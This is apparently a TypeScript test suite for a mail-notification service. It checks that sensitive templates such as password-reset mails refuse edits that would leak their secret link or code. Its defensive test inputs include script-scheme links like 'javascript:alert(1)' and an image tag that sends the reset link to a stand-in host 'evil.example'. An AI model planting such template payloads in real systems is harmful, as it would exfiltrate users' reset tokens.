// Proves that no edit of a sensitive template carries its secret to another host: over HTTP when it is saved, and once more when what is
// stored was saved under other rules. What leaves is read by another parser than the program's.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSeal } from '../../../../kernel/secrets/seal.ts';
import { createActiveUser, query } from '../../../../testing/sign-in.ts';
import { notify, readMail, startSendingServer } from '../../sending/send.fixture.ts';
import { readTemplate, saveTemplate, type TemplateServer, update } from '../../template-server.fixture.ts';
import { type HostileForm, hostileForms, lawfulForms } from './hostile-forms.fixture.ts';
import { leaksIn } from './second-reader.fixture.ts';

const RESET = 'auth.password-reset';
const OWN = 'secret.own';
const LINK = 'https://suite.example/auth/page#token=S3cr3tS3cr3tS3cr3t';
const CODE = '4711';

let server: TemplateServer;
let user: string;
beforeAll(async () => {
  server = await startSendingServer();
  const { uuid } = await createActiveUser(server, server.admin, {
    username: 'strong',
    roleList: ['ROLE_SYSTEM_ADMIN'],
  });
  user = uuid;
  const address = `email = 'strong@mail.example', email_folded = 'strong@mail.example', email_verified = true`;
  await query(server, `UPDATE auth_user SET ${address} WHERE uuid = $1`, [uuid]);
  await saveTemplate(server, { code: OWN, sensitive: true });
});
afterAll(() => server?.stop());

const parameters = { name: 'Ada', code: CODE, link: LINK, minutes: 30 };

interface Read {
  readonly subject: string;
  readonly content: string;
  readonly html: string | null;
}

async function lastMail(): Promise<Read> {
  const [row] = await query<{ uuid: string; sealed: string }>(
    server,
    'SELECT m.uuid, c.sealed FROM mail m JOIN mail_content c ON c.mail_id = m.id ORDER BY m.id DESC LIMIT 1',
  );
  const text = createSeal(server.kernel.keys, 'mail').open(row!.sealed, row!.uuid);
  return { html: null, ...(JSON.parse(text!) as { subject: string; content: string }) };
}

async function resetMail(): Promise<Read> {
  const { status } = await server.as(server.admin, 'POST', `/users/send-password-reset/by-uuid/${user}`);
  expect(status).toBe(200);
  return lastMail();
}

let surroundings = 0;

/** Stores what stands around the form, which is no secret's by itself, and answers the form as it names that. */
async function surround({ content, layout, partial, ...rest }: HostileForm) {
  surroundings += 1;
  const [layoutCode, part] = [`layout.${surroundings}`, `part.${surroundings}`];
  const around = (said: string) => ({ en: { content: said, contentType: 'HTML' } });
  // A layout of such a kind may be refused by itself.
  if (layout !== undefined)
    await saveTemplate(server, { code: layoutCode, type: 'LAYOUT', contentMap: around(layout) });
  if (partial !== undefined) await saveTemplate(server, { code: part, type: 'PARTIAL', contentMap: around(partial) });
  const said = { subject: 'Yours', contentType: 'HTML', ...rest, content: content.replaceAll('stolen.part', part) };
  return { layoutCode: layout === undefined ? null : layoutCode, contentMap: { en: said } };
}

const isLayoutAlone = (error: unknown) => error instanceof Error && error.message.includes('TEMPLATE_CONTENT_UNSAFE');
const refusals = new Set(['TEMPLATE_CONTENT_UNSAFE', 'TEMPLATE_SYNTAX_ERROR']);
const named = (form: HostileForm) => [JSON.stringify(form), form] as const;

it('mail-notification 24: the templates of the suite pass in both languages', async () => {
  const { body } = await server.as<{ data: { code: string; sensitive: boolean }[] }>(
    server.admin,
    'POST',
    '/notification/template/data/page',
    { searchText: 'auth.', pageable: { pageSize: 200 } },
  );
  const secret = body.data.filter((one) => one.sensitive).map(({ code }) => code);
  expect(secret.sort()).toEqual(['auth.activation', 'auth.email-change', 'auth.login-code', 'auth.password-reset']);
  for (const code of secret) {
    const { uuid, name, type, contentMap } = await readTemplate(server, code);
    expect(Object.keys(contentMap)).toEqual(['en', 'tr']);
    const checked = await server.as(server.admin, 'POST', '/notification/template/validate', {
      uuid,
      code,
      name,
      type,
      contentMap,
    });
    expect([code, checked.status, checked.error]).toEqual([code, 200, null]);
  }
});

describe('saved', () => {
  it.each(hostileForms.map(named))(
    'mail-notification 24: a sensitive template is refused that says %s',
    async (_, form) => {
      const model = await surround(form).catch((error: unknown) => {
        if (isLayoutAlone(error)) return null;
        throw error;
      });
      if (model === null) return;
      const { uuid, version } = await readTemplate(server, RESET);
      const answer = await update(server, { uuid, version, ...model });
      expect([answer.status, refusals.has(answer.error?.errorCode ?? '')]).toEqual([422, true]);
    },
  );

  it.each(lawfulForms.map(named))('mail-notification 24: a sensitive template may say %s', async (_, form) => {
    const model = await surround(form);
    const { uuid, version } = await readTemplate(server, OWN);
    const saved = await update(server, { uuid, version, ...model });
    expect([saved.status, saved.error]).toEqual([200, null]);
    expect((await notify(server, { templateCode: OWN, parameters })).status).toBe(200);
    const mail = await lastMail();
    expect(JSON.stringify(mail)).toMatch(new RegExp(`${LINK}|${CODE}`));
    expect(leaksIn(mail, [LINK, CODE])).toEqual([]);
  });
});

/** Puts a form where one is stored that was compiled before: nothing checks it on the way. */
async function store(code: string, form: HostileForm): Promise<void> {
  const { content, contentType, textContent, subject, layout, partial } = form;
  const part = `part.stored.${surroundings}`;
  surroundings += 1;
  if (partial !== undefined) {
    const around = { en: { content: partial, contentType: 'HTML' } };
    await saveTemplate(server, { code: part, type: 'PARTIAL', contentMap: around });
  }
  const whole = (layout ?? '{% content %}').replace('{% content %}', () => content).replaceAll('stolen.part', part);
  const compiled = {
    ...(subject === undefined ? {} : { subject }),
    html: contentType === 'TEXT' ? null : whole,
    text: contentType === 'TEXT' ? whole : (textContent ?? 'See the other part.'),
    textIsGenerated: false,
    partialCodes: partial === undefined ? [] : [part],
    isQuick: true,
  };
  await query(
    server,
    `WITH changed AS (
       UPDATE mail_template SET compile_no = compile_no + 1, edited = true WHERE code = $1 AND tenant_identifier = 'default' RETURNING id
     )
     UPDATE mail_template_content SET compiled = compiled || $2::jsonb WHERE template_id IN (SELECT id FROM changed) AND locale = 'en'`,
    [code, JSON.stringify(compiled)],
  );
}

const storable = ({ content }: HostileForm) => content !== '{% if link %}';

describe('stored', () => {
  beforeAll(async () => {
    const contentMap = { en: { subject: 'Yours', content: '{{ link }}' } };
    for (const code of [OWN, RESET]) {
      const { uuid, version } = await readTemplate(server, code);
      expect((await update(server, { uuid, version, contentMap })).status).toBe(200);
    }
  });

  it.each(hostileForms.filter(storable).map(named))(
    'mail-notification 24: nothing is made of a sensitive template that says %s, and the suite sends what it ships',
    async (_, form) => {
      await store(OWN, form);
      const answer = await notify(server, { templateCode: OWN, parameters });
      expect([answer.status, refusals.has(answer.error?.errorCode ?? '')]).toEqual([422, true]);
      await store(RESET, form);
      const mail = await resetMail();
      expect(mail).toMatchObject({ subject: 'Set a new password', html: null });
      expect(mail.content).toMatch(/^Hello strong,\n\na new password was asked for\./);
    },
  );
});

it('mail-notification 24: a sensitive mail is judged with its values, too: a link leads to no script', async () => {
  const { uuid, version } = await readTemplate(server, OWN);
  const contentMap = { en: { subject: 'Yours', content: '<a href="{{ link }}">Open</a>' } };
  expect((await update(server, { uuid, version, contentMap })).status).toBe(200);
  const send = (link: string) => notify(server, { templateCode: OWN, parameters: { link } });
  for (const link of ['javascript:alert(1)', ' java\tscript:alert(1)', 'data:text/html,x', 'VBSCRIPT:x']) {
    expect((await send(link)).error?.errorCode).toBe('TEMPLATE_CONTENT_UNSAFE');
  }
  const marked = `https://suite.example/?a="x"&b=<b>\uFDD00\uFDD1`;
  expect((await send(marked)).status).toBe(200);
  expect(leaksIn(await lastMail(), [marked])).toEqual([]);
});

it('mail-notification 24: who has taken the code of a sensitive template before a module ships it does not read its secret', async () => {
  const contentMap = {
    en: { subject: 'Taken', content: '<img src="https://evil.example/{{ link }}">', contentType: 'HTML' },
  };
  await saveTemplate(server, { code: 'late.secret', contentMap });
  const content = { subject: 'Shipped', content: 'Open {{ link }}' };
  const { mailNotification } = server.apis;
  mailNotification.shipTemplate({
    code: 'late.secret',
    name: 'Late secret',
    sensitive: true,
    contentMap: { en: content, tr: content },
  });
  const request = { tenantIdentifier: 'default', templateCode: 'late.secret', locale: 'en', createdBy: 'admin' };
  const to = { address: 'ada@mail.example', name: null };
  const { uuid } = await server.kernel.database.transaction((tx) =>
    mailNotification.enqueue(tx, { ...request, to, parameters: { link: LINK }, expireDate: null }),
  );
  expect(await lastMail()).toEqual({ subject: 'Shipped', content: `Open ${LINK}`, html: null });
  expect((await readMail(server, uuid)).subject).toBe('A template');
});
